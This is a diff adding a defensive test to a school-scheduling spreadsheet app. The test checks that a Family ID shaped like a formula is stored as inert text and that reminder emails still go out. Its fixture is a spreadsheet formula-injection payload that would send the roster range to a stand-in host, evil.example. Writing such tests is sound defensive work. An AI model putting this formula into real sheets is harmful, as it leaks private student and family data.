@@ -170,4 +170,24 @@ describe('the Family ID people read', () => {
       ['S2', 'F-GARCIA'],
     ]);
   });
+
+  it('writes a Family ID that Sheets would read as a formula as text, and reminds its family', () => {
+    const LEAK = '=HYPERLINK("https://evil.example/?"&ENCODEURL(Roster!A1:Z999))';
+    const s = pastedSchool(ROSTER, TEACHERS);
+    const roster = s.emulator.spreadsheet.sheetByName('Roster')!;
+    const noor = roster.values().findIndex((r) => r[0] === 'S5') + 1;
+    roster.put(noor, ROSTER_HEADER.indexOf('Family ID') + 1, { v: LEAK, nf: '@' });
+    run(s, 'schedule');
+    const ss = s.emulator.globals.SpreadsheetApp.getActiveSpreadsheet()!;
+    const row = rowsOf(s, 'Schedule').findIndex((r) => r['Student IDs'] === 'S5') + 2;
+    const header = s.emulator.spreadsheet.sheetByName('Schedule')!.values()[0]!.map(String);
+    const cell = ss.getSheetByName('Schedule')!.getRange(row, header.indexOf('Family ID') + 1);
+    expect({ formula: cell.getFormula(), value: cell.getValue() }).toEqual({
+      formula: '',
+      value: LEAK,
+    });
+    s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
+    run(s, 'reminders');
+    expect(s.emulator.mail.to('sam@haddad.example')).toHaveLength(1);
+  });
 });
